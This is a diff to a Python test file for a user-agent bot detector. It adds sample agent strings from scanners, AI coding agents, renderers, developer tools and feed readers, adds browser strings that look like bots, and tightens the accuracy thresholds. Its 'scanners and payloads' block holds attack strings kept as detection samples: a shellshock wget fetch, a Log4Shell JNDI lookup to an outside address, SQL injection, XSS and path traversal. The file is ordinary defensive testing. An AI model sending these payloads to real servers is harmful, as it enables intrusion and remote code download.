@@ -24,6 +24,59 @@ HAND_EXAMPLES = [
     "rest-client/2.1.0 (linux x86_64) ruby/3.2.2p53",
     "libcurl-agent/1.0",
     "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3570",
+    # scanners and payloads
+    '() { :;}; /bin/bash -c "wget http://198.51.100.7/x"',
+    "Mozilla/5.0 <script>alert(1)</script>",
+    "${jndi:ldap://198.51.100.7:1389/a}",
+    "Mozilla/5.0' UNION SELECT 1,2,3--",
+    "Mozilla/5.0' or '1'='1",
+    "../../../../etc/passwd",
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36' AND SLEEP(5)--",
+    "Mozilla/5.0'; WAITFOR DELAY '0:0:5'--",
+    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
+    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
+    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
+    "Acunetix Web Vulnerability Scanner",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36 ProxyChecker/2.0",
+    # AI coding agents
+    "GitHub-Copilot/1.155.0",
+    "OpenAI Codex/0.46.0 (Linux 6.8; x86_64)",
+    "Devin/1.0 (+https://devin.ai)",
+    "Cline/3.17.0",
+    "aider/0.86.1",
+    "Windsurf/1.10.3",
+    "opencode/0.5.2",
+    "gemini-cli/0.1.9 (linux; x64)",
+    # diagnostics and uptime agents
+    "Microsoft Windows Network Diagnostics",
+    "Elastic-Heartbeat/8.12.0 (linux; amd64)",
+    "Mozilla/5.0 (compatible; probe/1.0)",
+    # renderers, screenshot services, transcoding proxies
+    "Mozilla/5.0 (Windows NT 6.3; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/30.0.1599.69 Safari/537.36 Webthumb/2.0",
+    "Mozilla/5.0 (Windows NT 6.3; WOW64) AppleWebKit/534.34 (KHTML, like Gecko) Websnapr/3.0 Safari/534.34",
+    "Mozilla/5.0 Chrome/10.0.613.0 Safari/534.15 Zombie.js/5.0.7",
+    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; baidu Transcoder;)",
+    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/48.0.2564.97 Safari/537.36 Yandex.Translate",
+    # developer tools
+    "docker/24.0.7 go/go1.20.10 git-commit/311b9ff kernel/6.1.0 os/linux arch/amd64",
+    "kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f",
+    "Gradle/8.5 (Linux;6.1.0;amd64) (Eclipse Adoptium;17.0.9;17.0.9+9)",
+    "Mozilla/5.0 (pc-x86_64-linux-gnu) Siege/4.1.6",
+    "URLTester/1 CFNetwork/974.1 Darwin/18.0.0 (x86_64)",
+    "Lavf/60.3.100",
+    "Microsoft Office Word 2013 (15.0.4805) Windows NT 10.0",
+    "URL/Emacs Emacs/28.2 (X11; x86_64-pc-linux-gnu)",
+    "Mozilla/5.0 (compatible; MSIE 7.0; Windows NT 5.1) 360JK yunjiankong 123456",
+    "ExampleSite Analyzer/1.0",
+    "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/602.1 (KHTML, like Gecko) QuiteRSS/0.18.12 Safari/602.1",
+    # feed readers that say neither "feed" nor "rss"
+    "Reeder/5040002 CFNetwork/1408.0.4 Darwin/22.5.0",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_2) AppleWebKit/537.74.9 (KHTML, like Gecko) NetNewsWire/4.0.0",
+    "ReadKit/7017 CFNetwork/673.2.1 Darwin/13.1.0 (x86_64)",
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.21 (KHTML, like Gecko) akregator/4.11.5 Safari/537.21",
+    "Newsboat/2.30.1 (Linux x86_64)",
+    "Liferea/1.13.8 (Linux; en_US.UTF-8; https://lzone.de/liferea/)",
 ]
 detector = BotDetector()
 # People whose user agents look like bots: each EXCEPTIONS pattern and each non-Mozilla
@@ -37,6 +90,8 @@ PEOPLE_TRAPS = [
     "Mozilla/5.0 (iPhone; CPU iPhone OS 11_1_2 like Mac OS X) AppleWebKit/604.3.5 (KHTML, like Gecko) Mobile/15B202 (Ecosia ios@3.0.1.533)",
     "Mozilla/5.0 (iPhone; CPU iPhone OS 11_2_5 like Mac OS X) AppleWebKit/604.5.6 (KHTML, like Gecko) Mobile/15D60 [FBAN/FBIOS;FBDV/iPhone9,3;FBMD/iPhone;FBSN/iOS;FBSV/11.2.5;FBSS/2;FBCR/Vodafone.de;FBID/phone;FBLC/de_DE;FBOP/5]",
     "Opera/9.27",
+    "Mozilla/5.0 (Linux; Android 10; TLA001 Build/QP1A.190711.020; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/80.0.3987.132 Safari/537.36 SogouMSE,SogouMobileBrowser/5.22.8",
+    "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.6.5",
     # browser shapes that are not Mozilla (BROWSER_SHAPES)
     "Opera/9.80 (Android; Opera Mini/7.5.33725/66.247; U; en) Presto/2.12.423 Version/12.16",
     "Dalvik/2.1.0 (Linux; U; Android 6.0.1; HTC Desire EYE Build/MMB29M)",
@@ -53,11 +108,12 @@ PEOPLE_TRAPS = [
 
 
 def test_accuracy_floors_on_the_shipped_sample() -> None:
-    """At least 97% of sampled bots caught, at most 0.5% of sampled browsers flagged."""
+    """At least 98% of sampled bots caught, at most 0.25% of sampled browsers flagged (the
+    sample's two flagged "browsers" are a shellshock payload and a string with a URL)."""
     caught = sum(1 for ua in BOTS if detector.is_bot(ua)) / len(BOTS)
     flagged = sum(1 for ua in BROWSERS if detector.is_bot(ua)) / len(BROWSERS)
-    assert caught >= 0.97, caught
-    assert flagged <= 0.005, flagged
+    assert caught >= 0.98, caught
+    assert flagged <= 0.0025, flagged
 
 
 @pytest.mark.parametrize(
@@ -109,11 +165,14 @@ def test_people_are_not_bots(ua: str) -> None:
 
 @pytest.mark.parametrize("pattern", EXCEPTIONS)
 def test_every_exception_is_needed(pattern: str) -> None:
-    """Each exception blanks out a trap that our tokens would otherwise call a bot."""
+    """Each exception blanks out a trap that our tokens or the crawler list would otherwise
+    call a bot."""
     regex = re2.compile(pattern, _options(case_sensitive=False))
     traps = [ua for ua in PEOPLE_TRAPS if regex.search(ua)]
     assert traps, f"no trap for exception {pattern!r}"
-    assert any(detector._tokens.search(ua) for ua in traps), f"{pattern!r} guards nothing"
+    layers = detector.layers
+    guarded = [ua for ua in traps if layers.tokens.search(ua) or layers.crawlers.family(ua)]
+    assert guarded, f"{pattern!r} guards nothing"
 
 
 def test_crawler_list_layer_catches_what_tokens_miss() -> None:
